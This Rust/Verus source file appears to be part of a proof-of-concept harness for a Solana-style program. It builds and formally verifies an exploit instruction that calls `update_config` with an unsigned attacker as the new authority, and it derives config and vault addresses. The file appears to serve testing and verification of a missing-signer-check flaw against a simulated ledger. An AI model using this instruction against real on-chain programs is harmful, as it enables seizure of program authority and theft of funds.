//! The pieces of the proof-of-concept harness that are not the simulated
//! ledger itself: the exploit instruction for a missing signer check, and
//! the program-derived addresses the scenarios target.
use vstd::prelude::*;
use crate::instruction::{AccountMeta, Instruction, InstructionView};
use crate::keys::{derive_address, derived_address, derived_key, system_program, system_program_bytes, Key};

verus! {

/// The eight-byte tag that opens `update_config` data.
pub open spec fn update_config_discriminator() -> Seq<u8> {
    seq![0xdeu8, 0xadu8, 0xbeu8, 0xefu8, 0u8, 0u8, 0u8, 1u8]
}

/// The exploit call of `update_config`: the config account (writable), the
/// attacker named as authority without signing (read-only), and the system
/// program (read-only); data is the discriminator followed by the attacker's
/// address as the new authority.
pub open spec fn update_config_ix(program: Seq<u8>, config: Seq<u8>, attacker: Seq<u8>) -> InstructionView {
    InstructionView {
        program_id: program,
        accounts: seq![
            (config, false, true),
            (attacker, false, false),
            (system_program_bytes(), false, false),
        ],
        data: update_config_discriminator() + attacker,
    }
}

/// Builds the exploit instruction that calls `update_config` with an
/// authority that does not sign.
pub fn build_update_config_ix(program_id: Key, config_account: Key, attacker: Key) -> (ix: Instruction)
    ensures
        ix@ == update_config_ix(program_id@, config_account@, attacker@),
        ix@.program_id == program_id@,
        ix@.accounts == seq![
            (config_account@, false, true),
            (attacker@, false, false),
            (Seq::new(32, |_i: int| 0u8), false, false),
        ],
        ix@.data == seq![0xdeu8, 0xadu8, 0xbeu8, 0xefu8, 0u8, 0u8, 0u8, 1u8] + attacker@,
{
    proof { law_update_config_layout(program_id@, config_account@, attacker@); }
    let mut data: Vec<u8> = vec![0xdeu8, 0xadu8, 0xbeu8, 0xefu8, 0u8, 0u8, 0u8, 1u8];
    let mut authority = attacker.to_vec();
    data.append(&mut authority);
    assert(data@ =~= update_config_discriminator() + attacker@);
    let accounts = vec![
        AccountMeta::new(config_account, false),
        AccountMeta::new_readonly(attacker, false),
        AccountMeta::new_readonly(system_program(), false),
    ];
    let ix = Instruction { program_id, accounts, data };
    assert(ix@.accounts =~= update_config_ix(program_id@, config_account@, attacker@).accounts);
    ix
}

/// The seeds of the config address: `b"config"`.
pub open spec fn config_seeds() -> Seq<Seq<u8>> {
    seq![seq![0x63u8, 0x6fu8, 0x6eu8, 0x66u8, 0x69u8, 0x67u8]]
}

/// The seeds of a user's vault address: `b"vault"` and the user's address.
pub open spec fn vault_seeds(user: Seq<u8>) -> Seq<Seq<u8>> {
    seq![seq![0x76u8, 0x61u8, 0x75u8, 0x6cu8, 0x74u8], user]
}

/// The program's config address, derived from the seed `b"config"`.
pub fn config_address(program_id: &Key) -> (res: Option<Key>)
    ensures
        match derived_key(config_seeds(), program_id@) {
            Some(k) => res matches Some(r) && r@ == k,
            None => res is None,
        },
        match derived_address(config_seeds(), program_id@) {
            Some((k, _bump)) => res matches Some(r) && r@ == k,
            None => res is None,
        },
{
    let seeds: Vec<Vec<u8>> = vec![vec![0x63u8, 0x6fu8, 0x6eu8, 0x66u8, 0x69u8, 0x67u8]];
    proof {
        let inner = seeds@[0];
        assert(inner.deep_view() =~= config_seeds()[0]);
        assert(seeds.deep_view() =~= config_seeds());
    }
    derive_address(&seeds, program_id)
}

/// The vault address of `user`, derived from the seeds `b"vault"` and the
/// user's address.
pub fn vault_address(user: &Key, program_id: &Key) -> (res: Option<Key>)
    ensures
        match derived_key(vault_seeds(user@), program_id@) {
            Some(k) => res matches Some(r) && r@ == k,
            None => res is None,
        },
        match derived_address(vault_seeds(user@), program_id@) {
            Some((k, _bump)) => res matches Some(r) && r@ == k,
            None => res is None,
        },
{
    let seeds: Vec<Vec<u8>> = vec![vec![0x76u8, 0x61u8, 0x75u8, 0x6cu8, 0x74u8], user.to_vec()];
    proof {
        let first = seeds@[0];
        let second = seeds@[1];
        assert(first.deep_view() =~= vault_seeds(user@)[0]);
        assert(second.deep_view() =~= vault_seeds(user@)[1]);
        assert(seeds.deep_view() =~= vault_seeds(user@));
    }
    derive_address(&seeds, program_id)
}

/// The exploit instruction names the attacker as authority without making it
/// sign, and its data ends with the attacker's address, so a program that
/// checks the authority's signature must refuse it.
pub proof fn lemma_exploit_authority_unsigned(program: Seq<u8>, config: Seq<u8>, attacker: Seq<u8>)
    ensures
        update_config_ix(program, config, attacker).accounts[1] == (attacker, false, false),
        update_config_ix(program, config, attacker).data.skip(8) == attacker,
        forall|i: int| 0 <= i < 3 ==> !(#[trigger] update_config_ix(program, config, attacker).accounts[i]).1,
{
    assert(update_config_ix(program, config, attacker).data.skip(8) =~= attacker);
}

/// The exploit instruction calls the given program with the config account
/// (writable, not signing), the attacker as authority (read-only, not
/// signing) and the all-zero system program address (read-only); its data
/// is the `update_config` tag followed by the attacker's address bytes.
pub proof fn law_update_config_layout(program: Seq<u8>, config: Seq<u8>, attacker: Seq<u8>)
    ensures
        update_config_ix(program, config, attacker).program_id == program,
        update_config_ix(program, config, attacker).accounts == seq![
            (config, false, true),
            (attacker, false, false),
            (Seq::new(32, |_i: int| 0u8), false, false),
        ],
        update_config_ix(program, config, attacker).data
            == seq![0xdeu8, 0xadu8, 0xbeu8, 0xefu8, 0u8, 0u8, 0u8, 1u8] + attacker,
{
    assert(system_program_bytes() =~= Seq::new(32, |_i: int| 0u8));
    assert(update_config_discriminator() =~= seq![0xdeu8, 0xadu8, 0xbeu8, 0xefu8, 0u8, 0u8, 0u8, 1u8]);
}

} // verus!
